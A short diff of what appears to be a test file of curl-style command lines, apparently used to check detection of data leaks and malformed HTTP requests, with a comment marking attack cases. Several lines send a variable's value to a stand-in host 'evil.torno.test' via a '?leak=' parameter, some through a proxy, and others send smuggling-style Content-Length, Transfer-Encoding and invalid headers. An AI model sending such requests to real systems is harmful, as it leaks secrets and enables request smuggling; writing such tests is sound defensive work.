@@ -22,9 +22,9 @@ say "http://evil.torno.test/?leak=$C"
 say -x http://127.0.0.1:3128 "http://evil.torno.test/?leak=$C"
 say --proxy-header "X-Note: $C" -p -x http://127.0.0.1:3128 "https://evil.torno.test/?leak=$C"
 say --path-as-is "https://api.torno.test/public/..?leak=$C"
-say -H "Content-Length: $C" https://api.torno.test/public
-say -H "Transfer-Encoding: $C" -d x https://api.torno.test/public
-say -X POST -H "X-Bad Name: $C" https://api.torno.test/public
+say --http1.1 -H "Content-Length: $C" https://api.torno.test/public
+say --http1.1 -H "Transfer-Encoding: $C" -d x https://api.torno.test/public
+say --http1.1 -X POST -H "X-Bad Name: $C" https://api.torno.test/public
 "#;
 
 // ATTACK: 110, 217
